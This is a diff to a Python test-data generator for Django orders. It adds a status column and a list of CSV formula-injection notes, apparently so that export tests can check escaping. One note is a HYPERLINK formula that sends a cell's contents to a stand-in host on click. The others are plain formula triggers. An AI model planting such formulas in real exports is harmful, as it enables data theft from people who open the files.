@@ -4,7 +4,8 @@ Among them every value that a line-based consumer or an encoder gets wrong:
 each line separator there is (CR, LF, CRLF, U+0085, U+2028, U+2029) in text
 and inside JSON, emoji and other non-ASCII text, quotes and backslashes,
 nulls, zero, negative and the largest amounts, whole seconds and fractions of
-them. A test may so say which rows it expects without reading them back.
+them, and texts a spreadsheet would run as formulas. A test may so say which rows
+it expects without reading them back.
 """
 
 from __future__ import annotations
@@ -19,12 +20,13 @@ from typing import Any
 from django.core.management.color import no_style
 from django.db import connection, connections, transaction
 
-from .models import Order
+from .models import Order, Status
 
-__all__ = ["COLUMNS", "order", "orders", "seed"]
+__all__ = ["COLUMNS", "FORMULA_NOTES", "order", "orders", "seed"]
 
 COLUMNS = (
-    "id", "customer", "email", "amount", "quantity", "created_at", "paid", "note", "data"
+    "id", "customer", "email", "amount", "quantity", "created_at", "paid", "note", "data",
+    "status",
 )  # fmt: skip
 
 #: (name, the start of the e-mail address).
@@ -52,6 +54,17 @@ TRICKY_NOTES = [
     'quotes " and \\ backslash, emoji 📦🚚✅ and tab\there',
 ]
 PLAIN_NOTES = ["leave at the door", "gift wrap", "déjà vu", "fragile: 易碎", "call first"]
+#: Notes a spreadsheet would run as a formula if a CSV gave them as they are.
+FORMULA_NOTES = [
+    '=HYPERLINK("http://example.com/?leak="&A2,"Click me")',
+    "+1+2",
+    "-3+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=2+2",
+]
+#: Each order's status (a choice field's stored values).
+STATUSES = [status.value for status in Status]
 #: Amounts at the edges of Decimal(12, 2): nothing, a cent, a refund, the largest.
 EDGE_AMOUNTS = [Decimal("0.00"), Decimal("0.01"), Decimal("-12.50"), Decimal("9999999999.99")]
 EDGE_QUANTITIES = [0, 2**31 - 1]
@@ -89,6 +102,8 @@ def order(n: int) -> tuple[Any, ...]:
         note = None
     elif note_roll < 50:
         note = TRICKY_NOTES[next(d) % len(TRICKY_NOTES)]
+    elif note_roll < 53:
+        note = FORMULA_NOTES[next(d) % len(FORMULA_NOTES)]
     else:
         note = PLAIN_NOTES[next(d) % len(PLAIN_NOTES)]
     message_roll = next(d) % 50
@@ -111,6 +126,7 @@ def order(n: int) -> tuple[Any, ...]:
         next(d) % 10 < 7,
         note,
         data,
+        STATUSES[next(d) % len(STATUSES)],
     )
 
 
@@ -143,7 +159,7 @@ def _copy(count: int, first: int) -> None:
         cursor.cursor.copy(f"COPY {table} ({', '.join(COLUMNS)}) FROM STDIN") as copy,
     ):
         for row in orders(count, first):
-            copy.write_row((*row[:-1], Jsonb(row[-1])))
+            copy.write_row([Jsonb(value) if isinstance(value, dict) else value for value in row])
 
 
 def _insert(count: int, first: int, batch: int = 5_000) -> None:
